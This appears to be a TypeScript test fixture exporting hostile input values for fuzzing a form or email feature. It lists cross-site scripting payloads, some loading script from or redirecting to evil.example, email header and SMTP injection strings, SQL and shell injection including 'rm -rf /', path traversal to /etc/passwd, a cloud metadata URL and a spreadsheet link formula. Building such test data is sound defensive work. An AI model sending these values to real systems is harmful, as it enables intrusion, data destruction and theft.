const HEADERS = ["Bcc: victim@example.org", "Content-Type: text/html"];
const BREAKS = ["\r\n", "\n", "\r", "\u0085", "\u2028", "%0d%0a", "\r\n\r\n", "\u0000\r\n", "\v"];
const SCRIPTS = `<script>alert(1)</script> ~ <SCRIPT SRC=//evil.example/x.js></SCRIPT>
<scr<script>ipt>alert(1)</scr</script>ipt> ~ <img src=x onerror=alert(1)> ~ <svg/onload=alert(1)>
<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>
<iframe srcdoc='<script>alert(1)</script>'> ~ <a href=javascript:alert(1)>x</a>
<a href='java\u0000script:alert(1)'>x</a>
<p style="background:url('javascript:alert(1)')" onclick=alert(1)>x</p>
<textarea><img title="</textarea><img src=x onerror=alert(1)>"></textarea>
<noscript><p title="</noscript><img src=x onerror=alert(1)>"> ~ <xmp><script>alert(1)</script></xmp>
<plaintext><script>alert(1)</script> ~ <!--><script>alert(1)</script>-->
<![CDATA[<script>alert(1)</script>]]> ~ <base href=//evil.example/>
<meta http-equiv=refresh content='0;url=//evil.example'>
<form action=//evil.example><input name=x></form> ~ <video><source onerror=alert(1)></video>
<b><b><b onmouseover=alert(1)> ~ &lt;script&gt;alert(1)&lt;/script&gt;
&#x3C;script&#x3E;alert(1)&#x3C;/script&#x3E; ~ "><script>alert(1)</script> ~ '-alert(1)-' ~ <<<<<>>>>>`.split(
  / ~ |\n/,
);
const TEXTS = [
  ...["\u202Egnp.exe", "\u2066\u2067\u2069", "\u200F\u0627\u0644\u0633", "\u0906\u0936\u093E"],
  ...["\u{1F468}\u200D\u{1F469}", "\u{1F1EE}\u{1F1F3}".repeat(100), "Z\u0351\u0343\u033F".repeat(200)],
  ...["\uD800", "\uDC00\uD800", "a\uD83Db", "\uFEFF", "\uFFFE\uFFFF", "\u0000", "a\u0000b", "\u009B31m"],
  ...["\u0007\u0008\u001B[2J\u001B]0;owned\u0007", "\u00AD\u200B\u2060", "' OR 1=1 --", "; rm -rf / #"],
  ...["$(touch /tmp/owned)", "../../../../etc/passwd", "http://169.254.169.254/latest/meta-data/", "%s%s%n"],
  ...["=?utf-8?B?QmNjOiB2aWN0aW1AZXhhbXBsZS5vcmc=?=", '=HYPERLINK("http://evil.example")', "a@b@c"],
  ...["a@example.com,victim@example.org", "a@example.com\r\nRCPT TO:<victim@example.org>"],
  ...['"<script>"@example.com', "a@example.com>\r\nDATA\r\n.\r\n", "asha@example.com\u0000", ".\r\n.\r\n"],
  ...["x".repeat(60_000), "\u0950".repeat(6000), " ".repeat(5000), "\n".repeat(5000), "<".repeat(2000)],
  ...["<b>".repeat(3000), "</p>".repeat(3000), "&".repeat(3000), "<!--".repeat(3000)],
];
const OTHERS: readonly unknown[] = [
  ...[null, true, 0, -1, 1e308, {}, [], [[]], [null], [{}], { toString: "x" }, { length: 5 }, { $ne: "" }],
  Array.from({ length: 500 }, () => "x"),
  ["<script>alert(1)</script>"],
  ["Other\r\nBcc: victim@example.org"],
];

export const hostileValues: readonly unknown[] = [
  ...BREAKS.flatMap((mark) => HEADERS.map((header) => `Asha${mark}${header}`)),
  ...SCRIPTS,
  ...TEXTS,
  ...OTHERS,
];
